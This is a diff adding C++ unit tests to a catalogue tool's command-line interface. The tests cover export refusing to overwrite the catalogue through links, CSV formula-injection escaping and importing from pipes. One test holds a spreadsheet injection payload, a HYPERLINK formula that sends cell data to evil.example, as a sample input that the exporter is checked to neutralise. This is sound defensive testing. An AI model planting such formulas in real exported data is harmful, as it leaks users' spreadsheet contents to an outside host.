@@ -5,6 +5,7 @@
 #include "TestSupport.h"
 
 #include <algorithm>
+#include <cstdio>
 #include <filesystem>
 #include <gtest/gtest.h>
 #include <sys/stat.h>
@@ -105,6 +106,87 @@ TEST(CliExchangeTest, ImportOfFindOutputAndAMalformedLine) {
     EXPECT_NE(tree.Out.find("From find\n  d/\n"), std::string::npos) << tree.Out;
     const TCliResult discs = RunCli({"discs", data});
     EXPECT_NE(discs.Out.find("From find\t\t\t\t"), std::string::npos) << discs.Out;
+}
+
+TEST(CliExchangeTest, TheCatalogueItselfIsNeverTheOutput) {
+    TScratchDirectory scratch;
+    const std::string data = TreeCatalogue(scratch);
+    const std::string before = ReadFileBytes(data);
+    fs::create_symlink("c.olx", scratch / "symbolic.csv");
+    fs::create_hard_link(data, scratch / "hard.csv");
+    for (const std::string& output : {data, scratch / "symbolic.csv", scratch / "hard.csv"}) {
+        SCOPED_TRACE(output);
+        const TCliResult refused = RunCli({"export", data, "--format", "csv", "-o", output});
+        EXPECT_EQ(refused.ExitStatus, 1);
+        EXPECT_EQ(refused.Err,
+                  "Cannot create file \"" + output + "\". It is the catalogue being exported.\n");
+        EXPECT_EQ(ReadFileBytes(data), before);
+    }
+    EXPECT_TRUE(fs::is_symlink(scratch / "symbolic.csv"));
+    EXPECT_EQ(fs::hard_link_count(data), 2u);
+}
+
+// Names a spreadsheet would run as formulas, and names that begin with the mark itself.
+TEST(CliExchangeTest, ExportForSpreadsheetsHoldsNoFormulaAndReadsBackExactly) {
+    TScratchDirectory scratch;
+    const std::vector<std::string> names = {"=HYPERLINK(\"https:evil.example?\"&A1,\"x\")",
+                                            "+1",
+                                            "-2",
+                                            "@SUM(A1)",
+                                            "\ttab",
+                                            "\rcr",
+                                            "'quote",
+                                            "'=both",
+                                            "''two",
+                                            "plain"};
+    fs::create_directories(scratch / "tree/=folder");
+    for (const std::string& name : names)
+        WriteFileBytes(scratch / ("tree/" + name), "1");
+    const std::string data = scratch / "c.olx";
+    ASSERT_EQ(RunCli({"add", data, scratch / "tree", "--title=-disc", "--files"}).ExitStatus, 0);
+
+    const std::string marked = scratch / "marked.csv";
+    const TCliResult exported =
+        RunCli({"export", data, "--format", "csv", "--for-spreadsheets", "-o", marked});
+    ASSERT_EQ(exported.ExitStatus, 0) << exported.Err;
+    const std::string text = ReadFileBytes(marked);
+    // Every value a spreadsheet would start a formula with is marked as text, quoted or not.
+    for (const char* start : {",=", ",+", ",-", ",@", ",\t", ",\"=", ",\"\t", ",\"\r"})
+        EXPECT_EQ(text.find(start), std::string::npos) << start;
+    EXPECT_NE(text.find(",\"'=HYPERLINK("), std::string::npos) << text;
+    EXPECT_NE(text.find(",'''two,"), std::string::npos) << text;
+
+    const TCliResult imported =
+        RunCli({"import", data, marked, "--for-spreadsheets", "--title", "back"});
+    ASSERT_EQ(imported.ExitStatus, 0) << imported.Err;
+    const TCliResult original = RunCli({"export", data, "--format", "csv", "--disc", "0"});
+    const TCliResult readBack = RunCli({"export", data, "--format", "csv", "--disc", "1"});
+    // The title given on the command line aside, every row comes back as it was.
+    std::string expected = RowsWithoutIndex(original.Out);
+    for (std::size_t at = 0; (at = expected.find(",-disc,", at)) != std::string::npos;)
+        expected.replace(at, 7, ",back,");
+    EXPECT_EQ(RowsWithoutIndex(readBack.Out), expected);
+    EXPECT_NE(original.Out.find(",'=both,"), std::string::npos) << original.Out;
+}
+
+TEST(CliExchangeTest, ImportReadsAPipeButNoDevice) {
+    TScratchDirectory scratch;
+    const std::string data = scratch / "c.olx";
+    const TCliResult zero = RunCli({"import", data, "/dev/zero"});
+    EXPECT_EQ(zero.ExitStatus, 1);
+    EXPECT_EQ(zero.Err,
+              "Cannot open file \"/dev/zero\". It is a device, not a regular file or a pipe.\n");
+    EXPECT_FALSE(fs::exists(data));
+
+    const std::string command =
+        std::string(ORLENTA_CLI) + " import '" + data + "' - --format find0 --title piped 2>&1";
+    std::FILE* pipe = ::popen(command.c_str(), "w");
+    ASSERT_NE(pipe, nullptr);
+    const std::string list("/t\0/t/a\nb\0/t/c\0", 15);
+    std::fwrite(list.data(), 1, list.size(), pipe);
+    EXPECT_EQ(::pclose(pipe), 0);
+    const TCliResult tree = RunCli({"tree", data, "--files"});
+    EXPECT_EQ(tree.Out, "piped\n  a\nb\n  c\n");
 }
 
 } // namespace
